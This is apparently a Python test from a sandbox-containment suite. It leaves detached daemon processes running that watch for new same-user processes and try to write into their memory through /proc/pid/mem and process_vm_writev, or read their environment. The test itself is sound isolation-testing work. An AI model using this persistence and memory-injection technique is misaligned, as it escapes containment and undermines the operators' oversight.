"""Hunt what is born
tries: daemons left behind wait for a process of their uid that may be dumped (the next kernel while it enters, init's child that writes an upload) and write into its memory
expect: refused: none was ever open
stir: 8
"""
from attack import *

FOLDER = "/mnt/data" if os.path.isdir("/mnt/data") else "/tmp"
HITS, HUNTERS, LOOKS = f"{FOLDER}/.hits", f"{FOLDER}/.hunters", f"{FOLDER}/.looks"
# Of every fork of the same interpreter, where its maps are closed: a word that nobody changes.
COMMON = ctypes.addressof(ctypes.c_int.in_dll(ctypes.pythonapi, "Py_OptimizeFlag"))


def places(pid):
    """Where it may be written: the beginning of what it may write itself, and what all forks have."""
    try:
        lines = [line.split() for line in read(f"/proc/{pid}/maps").decode().splitlines()]
        yield from [int(line[0].split("-")[0], 16) for line in lines if line[1] == "rw-p"][:2]
    except OSError:
        pass
    yield COMMON


def by_mem(pid):
    """Who has it open stays able to; what is written is what was there."""
    fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    try:
        for at in places(pid):
            try:
                byte = os.pread(fd, 1, at)
                if byte and os.pwrite(fd, byte, at) == 1:
                    return "written"
            except OSError:
                continue
    finally:
        os.close(fd)


def by_call(pid):
    byte = ctypes.create_string_buffer(1)
    here = (ctypes.c_uint64 * 2)(ctypes.addressof(byte), 1)
    for at in places(pid):
        there = (ctypes.c_uint64 * 2)(at, 1)
        try:
            if call(SYS["process_vm_readv"], pid, here, 1, there, 1, 0) == call(SYS["process_vm_writev"], pid, here, 1, there, 1, 0) == 1:
                return "written"
        except OSError as e:
            if e.errno != errno.EFAULT:
                raise


def by_reading(name):
    return lambda pid: "read" if read(f"/proc/{pid}/{name}", 1) else None  # of one that is no more there is nothing to read


WAYS = {"mem": by_mem, "process_vm_writev": by_call, "environ": by_reading("environ"), "maps": by_reading("maps")}


def name_of(pid):
    try:
        return read(f"/proc/{pid}/comm").decode().strip()
    except OSError:
        return "one that is gone"


def look_at(pid):
    """Each way by itself: one that is closed says nothing of the next."""
    for name, way in WAYS.items():
        try:
            done = way(pid)
        except OSError:
            continue
        if done:
            return f"{name_of(pid)}, {done} by {name}"


def hunt():
    known = {1, os.getpid(), os.getppid()}
    counter = os.open(LOOKS, os.O_WRONLY | os.O_CREAT | os.O_APPEND)
    while True:
        os.write(counter, b".")
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) in known:
                continue
            found = look_at(int(name))
            if found:
                known.add(int(name))
                with open(HITS, "a") as hits:
                    hits.write(found + "\n")


def lay():
    open(HITS, "w").close()
    with open(HUNTERS, "w") as file:
        for _ in range(2):
            pid = os.fork()
            if pid == 0:
                os.setsid()
                hunt()
            file.write(f"{pid}\n")


def attack():
    found = sorted(read(HITS).decode().splitlines(), key=lambda line: " written " not in line)
    if found:
        return f"{len(found)} were open: {found[0]}"
    looks = os.stat(LOOKS).st_size
    if looks < 20:
        raise RuntimeError(f"the hunters looked {looks} times only")
    raise Contained(f"nothing was ever open in {looks} looks")
